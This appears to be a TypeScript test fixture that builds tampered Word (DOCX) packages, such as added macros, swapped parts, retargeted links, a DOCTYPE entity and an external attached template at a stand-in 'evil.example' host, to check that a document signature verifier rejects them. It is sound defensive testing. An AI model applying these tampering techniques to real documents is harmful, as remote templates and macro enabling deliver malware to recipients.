import { type DocxAttack, edited, mainPart, replaced } from './docxEdits.ts'
import { packDocx, unpackDocx } from './sampleDocx.ts'

const types = '[Content_Types].xml'
const links = 'word/_rels/document.xml.rels'
const macro = 'application/vnd.ms-office.vbaProject'

/** Parts and links changed by somebody who can write a perfect ZIP. */
export function onParts(good: Uint8Array): DocxAttack[] {
  const add = (
    name: string,
    reason: RegExp,
    bytes: Uint8Array,
    more: Partial<DocxAttack> = {},
  ): DocxAttack => ({ name, bytes, verdict: 'integrity', reason, ...more })
  const override = (part: string, type: string) =>
    `<Override PartName="/${part}" ContentType="${type}"/></Types>`
  const link = (attributes: string) => `<Relationship ${attributes}/></Relationships>`
  const withPart = (part: string, type: string, content: string) => {
    const files = unpackDocx(replaced(good, types, '</Types>', override(part, type)))
    return packDocx(files.set(part, Buffer.from(content)))
  }
  const office = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships'
  const ours = { oursAlone: true }
  return [
    add('the text changed', /not what was signed/, replaced(good, mainPart, 'Queue', 'Quiet')),
    add('the author changed', /not what was signed/, replaced(good, 'docProps/core.xml', 'Chris', 'Chloe')),
    add('a part added', /not signed/, withPart('word/evil.xml', 'application/xml', '<x/>')),
    add(
      'a part without a kind added',
      /not signed/,
      edited(good, (files) => files.set('evil.bin', Buffer.from('x'))),
    ),
    add('a macro added', /program/, withPart('word/vbaProject.bin', macro, 'x')),
    add(
      'a part removed',
      /not in the document/,
      edited(good, (files) => files.delete('word/numbering.xml')),
    ),
    add(
      'a part renamed',
      /not in the document|not signed/,
      edited(good, (files) =>
        files.set('word/styles2.xml', files.get('word/styles.xml')!).delete('word/styles.xml'),
      ),
    ),
    add(
      'two parts exchanged',
      /not what was signed/,
      edited(good, (files) => {
        const [one, two] = [files.get('word/styles.xml')!, files.get('word/settings.xml')!]
        files.set('word/styles.xml', two).set('word/settings.xml', one)
      }),
    ),
    add(
      'a content type changed',
      /content type was changed/,
      replaced(good, types, 'document.main+xml', 'template.main+xml'),
      ours,
    ),
    add(
      'a document made one with macros',
      /without macros/,
      replaced(
        good,
        types,
        'application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml',
        'application/vnd.ms-word.document.macroEnabled.main+xml',
      ),
      ours,
    ),
    add(
      'a kind named for a part that is not there',
      /not in the document/,
      replaced(good, types, '</Types>', override('word/later.bin', macro)),
      ours,
    ),
    add(
      'a comment in the content types',
      /comment/,
      replaced(good, types, '</Types>', '<!-- x --></Types>'),
      ours,
    ),
    add(
      'a link retargeted',
      /leads elsewhere/,
      replaced(good, links, 'https://example.org/plan', 'https://evil.example/'),
      ours,
    ),
    add(
      'an internal link retargeted',
      /leads elsewhere/,
      replaced(good, links, 'styles.xml', 'settings.xml'),
      ours,
    ),
    add(
      'the main part retargeted',
      /leads elsewhere/,
      replaced(good, '_rels/.rels', 'word/document.xml', 'word/footnotes.xml'),
      ours,
    ),
    add(
      'a link made external',
      /leads elsewhere/,
      replaced(good, links, 'Target="styles.xml"', 'Target="styles.xml" TargetMode="External"'),
      ours,
    ),
    add(
      'a link removed',
      /leads elsewhere/,
      replaced(good, links, /<Relationship [^>]*Target="theme[^>]*>/, ''),
      ours,
    ),
    add(
      'a link added',
      /was added/,
      replaced(
        good,
        links,
        '</Relationships>',
        link(`Id="x" Type="${office}/hyperlink" Target="https://evil.example/" TargetMode="External"`),
      ),
      ours,
    ),
    add(
      'a template from elsewhere added',
      /fetches something/,
      replaced(
        good,
        links,
        '</Relationships>',
        link(
          `Id="x" Type="${office}/attachedTemplate" Target="https://evil.example/t.dotm" TargetMode="External"`,
        ),
      ),
      ours,
    ),
    add(
      'a link added to the package',
      /was added/,
      replaced(
        good,
        '_rels/.rels',
        '</Relationships>',
        link(`Id="x" Type="${office}/custom" Target="docProps/app.xml"`),
      ),
      ours,
    ),
    add(
      'two links of one name',
      /two relationships/,
      replaced(good, links, '</Relationships>', link(`Id="rId1" Type="${office}/styles" Target="x.xml"`)),
      ours,
    ),
    add(
      'links added to a part that has none',
      /not signed/,
      edited(good, (files) =>
        files.set(
          'word/_rels/styles.xml.rels',
          Buffer.from(
            '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"></Relationships>',
          ),
        ),
      ),
      ours,
    ),
    add(
      'an entity in the links',
      /document type/,
      replaced(good, links, '<Relationships', '<!DOCTYPE x [<!ENTITY e "x">]><Relationships'),
      ours,
    ),
  ]
}
